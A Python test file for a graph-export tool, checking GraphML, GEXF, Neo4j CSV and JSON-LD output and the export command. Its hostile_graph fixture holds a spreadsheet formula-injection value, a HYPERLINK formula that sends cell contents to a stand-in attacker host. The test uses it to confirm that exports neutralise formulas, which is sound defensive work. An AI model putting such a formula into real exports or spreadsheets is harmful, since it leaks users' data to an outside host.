"""Exports for Gephi, Neo4j, spreadsheets and JSON-LD tools: each holds the graph's nodes and edges."""

from __future__ import annotations

import csv
import json

import networkx as nx
import pytest
from rdflib.compare import isomorphic
from typer.testing import CliRunner

from tipgraph.graph.cli.main import app
from tipgraph.graph.exports import FORMATS, ExportError, export_graph, read_csv_graph, read_jsonld
from tipgraph.graph.model.nx import load_graph, rdf_to_networkx
from tipgraph.graph.sparql.core import GraphFileError

runner = CliRunner()


@pytest.fixture(scope="module")
def seeds_network(seeds_build):
    _, out = seeds_build
    return load_graph(out / "graph.ttl")


def edge_multiset(graph) -> list[tuple[str, str, str]]:
    return sorted((u, v, str(data.get("statement") or "")) for u, v, data in graph.edges(data=True))


READERS = {
    "graphml": lambda path: nx.read_graphml(path, force_multigraph=True),
    "gexf": nx.read_gexf,
    "csv": read_csv_graph,
}


@pytest.mark.parametrize("fmt, name", [("graphml", "graph.graphml"), ("gexf", "graph.gexf"), ("csv", "csv")])
def test_network_exports_round_trip_nodes_and_edges(seeds_build, seeds_network, tmp_path, fmt, name):
    _, out = seeds_build
    written = export_graph(out / "graph.ttl", fmt, tmp_path / name)
    assert all(path.stat().st_size > 0 for path in written)
    back = READERS[fmt](tmp_path / name)
    assert back.number_of_nodes() == seeds_network.number_of_nodes() > 50
    assert back.number_of_edges() == seeds_network.number_of_edges() > 10
    assert set(back.nodes) == set(seeds_network.nodes)
    assert edge_multiset(back) == edge_multiset(seeds_network)


def test_gexf_keeps_labels_and_does_not_turn_offsets_into_time(seeds_build, seeds_network, tmp_path):
    _, out = seeds_build
    export_graph(out / "graph.ttl", "gexf", tmp_path / "graph.gexf")
    text = (tmp_path / "graph.gexf").read_text(encoding="utf-8")
    assert 'mode="static"' in text and 'mode="dynamic"' not in text
    back = nx.read_gexf(tmp_path / "graph.gexf")
    vietnam = "https://w3id.org/tipgraph/resource/place/VN"
    assert back.nodes[vietnam]["label"] == "Vietnam" and back.nodes[vietnam]["cls"] == "Country"
    u, v, data = next((u, v, d) for u, v, d in back.edges(data=True) if d["kind"] == "statement")
    original = next(d for _, _, d in seeds_network.edges(u, data=True) if d["statement"] == data["statement"])
    assert (data["evidence_start"], data["evidence_end"]) == (original["start"], original["end"])


def test_csv_has_neo4j_import_headers_and_typed_columns(seeds_build, seeds_network, tmp_path):
    _, out = seeds_build
    export_graph(out / "graph.ttl", "csv", tmp_path)
    with (tmp_path / "nodes.csv").open(encoding="utf-8", newline="") as handle:
        nodes = list(csv.DictReader(handle))
    with (tmp_path / "edges.csv").open(encoding="utf-8", newline="") as handle:
        edges = list(csv.DictReader(handle))
    assert list(nodes[0])[:2] == ["id:ID", ":LABEL"] and "mentions:int" in nodes[0] and "documents:string[]" in nodes[0]
    assert (
        list(edges[0])[:3] == [":START_ID", ":END_ID", ":TYPE"]
        and "start:int" in edges[0]
        and "confidence:float" in edges[0]
    )
    unicef = next(row for row in nodes if row["label"] == "UNICEF")
    assert unicef[":LABEL"].split(";") == ["InternationalOrganization", "Organization", "Actor"]
    assert len(unicef["documents:string[]"].split(";")) == 2
    assert {row[":TYPE"] for row in edges} == {
        "COOPERATION",
        "FUNDING",
        "ROUTE",
        "AFFILIATION",
        "LOCATED_IN",
        "COUNTRY",
    }
    ids = {row["id:ID"] for row in nodes}
    assert all(row[":START_ID"] in ids and row[":END_ID"] in ids for row in edges)
    statements = [row for row in edges if row["kind"] == "statement"]
    assert all(int(row["start:int"]) < int(row["end:int"]) for row in statements)
    assert all(row["statement"] == "" for row in edges if row["kind"] == "tie")


def test_structural_ties_are_edges_of_their_own_kind(seeds_network):
    ties = [(u, v, a) for u, v, a in seeds_network.edges(data=True) if a["kind"] == "tie"]
    for u, v, attrs in ties:
        assert set(attrs) == {"kind", "relation"}  # no statement, no evidence: a tie the graph states
        node = seeds_network.nodes[u]
        if attrs["relation"] in ("affiliation", "located_in"):
            assert node[attrs["relation"]] == v
        else:  # country, when neither an affiliation nor an enclosing place leads there
            assert seeds_network.nodes[v]["cls"] == "Country" and v != u
            assert node["country"] == seeds_network.nodes[v]["country"]
            assert node.get("affiliation") not in seeds_network and node.get("located_in") not in seeds_network
    officials = [n for n, a in seeds_network.nodes(data=True) if a["cls"] == "Official" and a["affiliation"]]
    assert officials and all(
        any(a["relation"] == "affiliation" for _, _, a in seeds_network.out_edges(n, data=True)) for n in officials
    )


def test_gexf_carries_the_views_colours_sizes_and_layout(seeds_build, seeds_network, tmp_path):
    _, out = seeds_build
    export_graph(out / "graph.ttl", "gexf", tmp_path / "graph.gexf")
    back = nx.read_gexf(tmp_path / "graph.gexf")
    vietnam = back.nodes["https://w3id.org/tipgraph/resource/place/VN"]["viz"]
    assert (vietnam["color"]["r"], vietnam["color"]["g"], vietnam["color"]["b"]) == (0xD6, 0x27, 0x28)  # Country red
    sizes = {node: attrs["viz"]["size"] for node, attrs in back.nodes(data=True)}
    busiest = max(seeds_network, key=lambda n: seeds_network.nodes[n]["mentions"])
    assert sizes[busiest] == max(sizes.values()) > min(sizes.values())
    positions = [(a["viz"]["position"]["x"], a["viz"]["position"]["y"]) for _, a in back.nodes(data=True)]
    assert len(set(positions)) == len(positions)  # every node has a place of its own
    text = (tmp_path / "graph.gexf").read_text(encoding="utf-8")
    assert text.count("<viz:thickness") == seeds_network.number_of_edges()


def test_jsonld_holds_the_same_triples_with_the_tg_context(seeds_build, seeds_rdf, seeds_network, tmp_path):
    _, out = seeds_build
    export_graph(out / "graph.ttl", "jsonld", tmp_path / "graph.jsonld")
    document = json.loads((tmp_path / "graph.jsonld").read_text(encoding="utf-8"))
    assert document["@context"]["tg"] == "https://w3id.org/tipgraph/ontology#"
    back = read_jsonld(tmp_path / "graph.jsonld")
    assert len(back) == len(seeds_rdf) and isomorphic(back, seeds_rdf)
    network = rdf_to_networkx(back)
    assert (network.number_of_nodes(), network.number_of_edges()) == (
        seeds_network.number_of_nodes(),
        seeds_network.number_of_edges(),
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_command_writes_each_format(seeds_build, tmp_path, fmt):
    _, out = seeds_build
    target = tmp_path / ("csv" if fmt == "csv" else f"graph.{fmt}")
    result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", fmt, "--out", str(target)])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("wrote ")
    assert (target / "edges.csv").is_file() if fmt == "csv" else target.is_file()
    assert not list(tmp_path.rglob("*.tmp"))  # atomic writes leave no temporary file behind


def test_export_mistakes_are_clear(seeds_build, tmp_path):
    _, out = seeds_build
    with pytest.raises(ExportError, match="unknown export format 'pdf'"):
        export_graph(out / "graph.ttl", "pdf", tmp_path / "x.pdf")
    with pytest.raises(GraphFileError, match="no such file"):
        export_graph(tmp_path / "missing.ttl", "gexf", tmp_path / "x.gexf")
    result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", "pdf", "--out", str(tmp_path / "x")])
    # The command refuses it before reading anything, naming the formats there are (a usage error: exit 2).
    assert result.exit_code == 2 and "'pdf' is not one of 'gexf'" in result.output and "Traceback" not in result.output


def hostile_graph():
    """A graph whose names a spreadsheet would run and whose ``;`` Neo4j would split."""
    from tipgraph.extractors.records import DocumentRecord, EntityRecord, Mention
    from tipgraph.graph.model.rdf import corpus_to_rdf
    from tipgraph.graph.resolve import resolve_corpus

    def entity(key, label, cls):
        return EntityRecord(key, label, cls, mentions=[Mention(label, 0, len(label))])

    records = [
        DocumentRecord(['=HYPERLINK("http://evil.example/?x="&A1,"open").txt'], "ab" * 32),
        DocumentRecord(["memo; part 2.txt"], "cd" * 32),
    ]
    records[0].entities = [entity("e1", "Shelter Alliance; Hanoi Branch", "NGO"), entity("e2", "-Ministry", "Agency")]
    records[1].entities = [entity("e1", "Shelter Alliance; Hanoi Branch", "NGO"), entity("e2", "@Sum Fund 100%", "NGO")]
    return corpus_to_rdf(resolve_corpus(records))


def test_csv_cells_are_never_formulas_and_arrays_never_split_inside_an_item(tmp_path):
    import urllib.parse

    export_graph(hostile_graph(), "csv", tmp_path)
    with (tmp_path / "nodes.csv").open(encoding="utf-8", newline="") as handle:
        nodes = list(csv.DictReader(handle))
    cells = [cell for row in nodes for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a cell a spreadsheet runs as a formula"
    alliance = next(row for row in nodes if "Shelter Alliance" in row["label"])
    documents = alliance["documents:string[]"].split(";")
    assert len(documents) == 2, "a ; inside a document name split the array"
    assert {urllib.parse.unquote(d) for d in documents} == {
        '\'=HYPERLINK("http://evil.example/?x="&A1,"open").txt',
        "memo; part 2.txt",
    }
    assert {row["label"] for row in nodes} >= {"Shelter Alliance; Hanoi Branch", "'-Ministry", "'@Sum Fund 100%"}


def test_export_to_an_existing_folder_names_the_folder(seeds_build, tmp_path):
    _, out = seeds_build
    folder = tmp_path / "exports"
    folder.mkdir()
    for fmt in ("gexf", "graphml", "jsonld"):
        result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", fmt, "--out", str(folder)])
        assert result.exit_code == 1, result.output
        assert f"{folder} is a folder" in result.output and ".tmp" not in result.output
    assert list(folder.iterdir()) == []
